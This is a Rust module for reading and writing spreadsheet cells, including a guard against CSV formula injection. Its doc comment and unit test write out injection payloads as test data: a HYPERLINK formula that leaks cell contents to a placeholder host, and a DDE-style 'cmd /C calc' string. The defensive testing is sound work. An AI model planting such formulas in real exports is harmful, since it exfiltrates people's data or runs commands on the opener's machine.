//! How one spreadsheet cell holds a value: numbers with a decimal point or comma, lists joined
//! by `|`, skills as `label [CODE]`, languages as `fr:B1`. Writing then reading a cell gives the
//! value back exactly (`\` escapes `\`, `|`, `[` and `]` inside list items).

use crate::i18n::Msg;
use crate::store::{LanguageRecord, SkillRecord};

/// Separates the items of a list cell.
pub const LIST_SEPARATOR: char = '|';

/// Characters a list item escapes with `\` so that any text survives a round trip.
const ESCAPED: [char; 4] = ['\\', '|', '[', ']'];

/// A number as spreadsheets write it: `20`, `20.5`, or `20,5` (French and Belgian locales).
pub fn parse_number(cell: &str) -> Result<f64, Msg> {
    let text = if !cell.contains('.') && cell.matches(',').count() == 1 {
        cell.replace(',', ".")
    } else {
        cell.to_owned()
    };
    match text.parse::<f64>() {
        Ok(n) if n.is_finite() => Ok(n),
        _ => Err(Msg::new("cell-not-a-number").text("given", cell)),
    }
}

/// A whole number; `45,0` or `45.0` from a spreadsheet is accepted as 45.
pub fn parse_integer(cell: &str) -> Result<i32, Msg> {
    if let Ok(n) = cell.parse::<i32>() {
        return Ok(n);
    }
    match parse_number(cell) {
        Ok(n) if n.fract() == 0.0 && n.abs() <= f64::from(i32::MAX) => Ok(n as i32),
        _ => Err(Msg::new("cell-not-a-whole-number").text("given", cell)),
    }
}

/// What a spreadsheet reads as the start of a formula: `=`, `+`, `-`, `@`, a tab or a carriage
/// return (OWASP's CSV injection guidance).
fn starts_a_formula(text: &str) -> bool {
    text.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A cell as exported: text that a spreadsheet would take for a formula
/// (`=HYPERLINK("http://…?"&D2,"Dossier")` in a name) gets a leading `'`, which spreadsheets
/// show as text and [`unguard`] takes off on import. Numbers (a negative longitude) are left
/// as they are, and so is text that does not start a formula. Text that starts with `'`s before a
/// formula character gets one more, so that every value comes back the same.
pub fn guard(cell: &str) -> std::borrow::Cow<'_, str> {
    let after_quotes = cell.trim_start_matches('\'');
    if starts_a_formula(after_quotes) && parse_number(cell).is_err() {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// A cell as imported: the `'` that [`guard`] put before a formula character is taken off.
pub fn unguard(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if starts_a_formula(rest.trim_start_matches('\'')) => rest,
        _ => cell,
    }
}

/// A number written so that [`parse_number`] reads back the same `f64` (shortest round trip).
pub fn number(n: f64) -> String {
    n.to_string()
}

/// Splits a list cell on unescaped `|`, keeping escapes inside items. Empty items are dropped.
fn split_raw(cell: &str) -> Vec<String> {
    let mut items = Vec::new();
    let mut current = String::new();
    let mut chars = cell.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => {
                current.push('\\');
                if let Some(next) = chars.next() {
                    current.push(next);
                }
            }
            LIST_SEPARATOR => items.push(std::mem::take(&mut current)),
            other => current.push(other),
        }
    }
    items.push(current);
    items
        .into_iter()
        .map(|i| i.trim().to_owned())
        .filter(|i| !i.is_empty())
        .collect()
}

/// Removes the escaping backslashes.
fn unescape(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut chars = raw.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            if let Some(next) = chars.next() {
                out.push(next);
            }
        } else {
            out.push(c);
        }
    }
    out
}

fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if ESCAPED.contains(&c) {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// The items of a list cell (`night_work|heavy_lifting`).
pub fn parse_list(cell: &str) -> Vec<String> {
    split_raw(cell)
        .iter()
        .map(|i| unescape(i).trim().to_owned())
        .collect()
}

/// A list cell holding `items`.
pub fn list(items: &[String]) -> String {
    items
        .iter()
        .map(|i| escape(i))
        .collect::<Vec<_>>()
        .join(&LIST_SEPARATOR.to_string())
}

/// Skills: `entretien espaces verts|jardinage [A1203]`; the code in square brackets is optional.
pub fn parse_skills(cell: &str) -> Vec<SkillRecord> {
    split_raw(cell).iter().map(|raw| parse_skill(raw)).collect()
}

fn parse_skill(raw: &str) -> SkillRecord {
    // Find an unescaped '[' and an unescaped ']' that ends the item.
    let mut open = None;
    let mut escaped = false;
    let mut closes_at_end = false;
    for (i, c) in raw.char_indices() {
        closes_at_end = false;
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' => escaped = true,
            '[' => open = Some(i),
            ']' => closes_at_end = i + 1 == raw.len(),
            _ => {}
        }
    }
    match open {
        Some(i) if closes_at_end => {
            let code = raw[i + 1..raw.len() - 1].trim();
            SkillRecord {
                label: unescape(&raw[..i]).trim().to_owned(),
                code: (!code.is_empty()).then(|| unescape(code)),
            }
        }
        _ => SkillRecord {
            label: unescape(raw).trim().to_owned(),
            code: None,
        },
    }
}

/// A skills cell.
pub fn skills(items: &[SkillRecord]) -> String {
    items
        .iter()
        .map(|s| match &s.code {
            Some(code) => format!("{} [{}]", escape(&s.label), escape(code)),
            None => escape(&s.label),
        })
        .collect::<Vec<_>>()
        .join(&LIST_SEPARATOR.to_string())
}

/// Languages: `fr:B1|pt:C2` (also `fr B1` or `fr=B1`).
pub fn parse_languages(cell: &str) -> Result<Vec<(String, String)>, Msg> {
    parse_list(cell)
        .into_iter()
        .map(|item| {
            item.split_once([':', '='])
                .or_else(|| item.split_once(' '))
                .map(|(l, v)| (l.trim().to_owned(), v.trim().to_owned()))
                .filter(|(l, v)| !l.is_empty() && !v.is_empty())
                .ok_or_else(|| Msg::new("cell-not-a-language-level").text("given", item.clone()))
        })
        .collect()
}

/// A languages cell.
pub fn languages(items: &[LanguageRecord]) -> String {
    items
        .iter()
        .map(|l| format!("{}:{}", l.language, l.level))
        .collect::<Vec<_>>()
        .join(&LIST_SEPARATOR.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_text_is_exported_as_text_and_imported_as_it_was() {
        let attack = "=HYPERLINK(\"http://x.example/?leak=\"&D2&E2,\"Dossier\")";
        for (value, exported) in [
            (attack, format!("'{attack}")),
            ("+33 6 12 34 56 78", "'+33 6 12 34 56 78".to_owned()),
            ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0".to_owned()),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)".to_owned()),
            ("\t=1+1", "'\t=1+1".to_owned()),
            ("'=already quoted", "''=already quoted".to_owned()),
            ("-6.1296", "-6.1296".to_owned()),
            ("+12", "+12".to_owned()),
            ("Jean-Luc", "Jean-Luc".to_owned()),
            ("l'Ourthe", "l'Ourthe".to_owned()),
            ("'quoted", "'quoted".to_owned()),
        ] {
            assert_eq!(guard(value), exported, "{value}");
            assert_eq!(unguard(&guard(value)), value, "{value} comes back");
        }
    }

    #[test]
    fn a_decimal_comma_reads_like_a_decimal_point() {
        assert_eq!(parse_number("20,5"), Ok(20.5));
        assert_eq!(parse_number("20.5"), Ok(20.5));
        assert!(parse_number("1,000.5").is_err());
        assert!(parse_number("NaN").is_err());
        assert_eq!(parse_integer("45,0"), Ok(45));
        assert!(parse_integer("45,5").is_err());
    }

    #[test]
    fn any_list_text_survives_writing_and_reading() {
        let items = vec![
            "a|b".to_owned(),
            "back\\slash".to_owned(),
            "[brackets]".to_owned(),
            "plain".to_owned(),
        ];
        assert_eq!(parse_list(&list(&items)), items);
    }

    #[test]
    fn skills_keep_their_codes_and_odd_labels() {
        let items = vec![
            SkillRecord {
                label: "jardinage".into(),
                code: Some("A1203".into()),
            },
            SkillRecord {
                label: "permis [B]".into(),
                code: None,
            },
            SkillRecord {
                label: "x | y".into(),
                code: Some("K-1.2".into()),
            },
        ];
        assert_eq!(parse_skills(&skills(&items)), items);
        assert_eq!(
            parse_skills("entretien espaces verts | jardinage [A1203]")[1].code,
            Some("A1203".into())
        );
    }

    #[test]
    fn languages_read_with_a_colon_an_equals_sign_or_a_space() {
        assert_eq!(
            parse_languages("fr:B1| pt = C2|lb A1").unwrap(),
            vec![
                ("fr".into(), "B1".into()),
                ("pt".into(), "C2".into()),
                ("lb".into(), "A1".into())
            ]
        );
        assert!(parse_languages("fr").is_err());
    }
}
